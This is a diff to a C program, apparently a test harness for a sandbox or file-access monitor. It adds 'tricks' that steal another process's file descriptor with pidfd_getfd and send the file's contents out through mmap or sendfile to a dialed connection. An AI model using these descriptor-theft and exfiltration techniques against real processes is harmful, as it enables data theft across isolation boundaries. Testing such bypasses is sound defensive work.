@@ -55,12 +55,44 @@ static void end(pid_t pid)
 	await(pid);
 }
 
+static int steal_from(pid_t pid)
+{
+	return must(syscall(SYS_pidfd_getfd, must(syscall(SYS_pidfd_open, pid, 0), "pidfd_open"), 9, 0), "pidfd_getfd");
+}
+
 static void pidfd_getfd_stolen(void)
 {
 	pid_t pid = reader();
-	int pidfd = must(syscall(SYS_pidfd_open, pid, 0), "pidfd_open");
 
-	carry_away(must(syscall(SYS_pidfd_getfd, pidfd, 9, 0), "pidfd_getfd"));
+	carry_away(steal_from(pid));
+	end(pid);
+}
+
+static void send_mapped(int fd)
+{
+	struct stat st;
+	char *data;
+
+	must(fstat(fd, &st), "fstat");
+	data = mmap(NULL, st.st_size, PROT_READ, MAP_PRIVATE, fd, 0);
+	if (data == MAP_FAILED)
+		cant("mmap");
+	send_out(data, st.st_size);
+}
+
+static void stolen_and_mapped(void)
+{
+	pid_t pid = reader();
+
+	send_mapped(steal_from(pid));
+	end(pid);
+}
+
+static void stolen_and_sendfile(void)
+{
+	pid_t pid = reader();
+
+	must(sendfile(dial(), steal_from(pid), NULL, ROOM), "sendfile");
 	end(pid);
 }
 
@@ -164,15 +196,7 @@ static void memory_of_a_reader(void)
 
 static void mapped(void)
 {
-	int fd = must(open(at(DECOY), O_RDONLY), "open");
-	struct stat st;
-	char *data;
-
-	must(fstat(fd, &st), "fstat");
-	data = mmap(NULL, st.st_size, PROT_READ, MAP_PRIVATE, fd, 0);
-	if (data == MAP_FAILED)
-		cant("mmap");
-	send_out(data, st.st_size);
+	send_mapped(must(open(at(DECOY), O_RDONLY), "open"));
 }
 
 static void reader_preloaded(void)
@@ -207,10 +231,15 @@ static void reader_asked(void)
 }
 
 static const struct trick tricks[] = {
-	TRICK(fd_from_stranger), TRICK(pidfd_getfd_stolen),  TRICK(proc_fd_of_another), TRICK(fanotify_gives_it),
-	TRICK(file_handle),	 TRICK(uring_open),	     TRICK(uring_open_polled),	TRICK(uring_read),
-	TRICK(uring_connect),	 TRICK(uring_all),	     TRICK(memory_of_a_reader), TRICK(mapped),
-	TRICK(reader_preloaded), TRICK(reader_impersonated), TRICK(reader_asked),
+	TRICK(fd_from_stranger),   TRICK(pidfd_getfd_stolen),
+	TRICK(stolen_and_mapped),  TRICK(stolen_and_sendfile),
+	TRICK(proc_fd_of_another), TRICK(fanotify_gives_it),
+	TRICK(file_handle),	   TRICK(uring_open),
+	TRICK(uring_open_polled),  TRICK(uring_read),
+	TRICK(uring_connect),	   TRICK(uring_all),
+	TRICK(memory_of_a_reader), TRICK(mapped),
+	TRICK(reader_preloaded),   TRICK(reader_impersonated),
+	TRICK(reader_asked),
 };
 
 int main(int argc, char **argv)
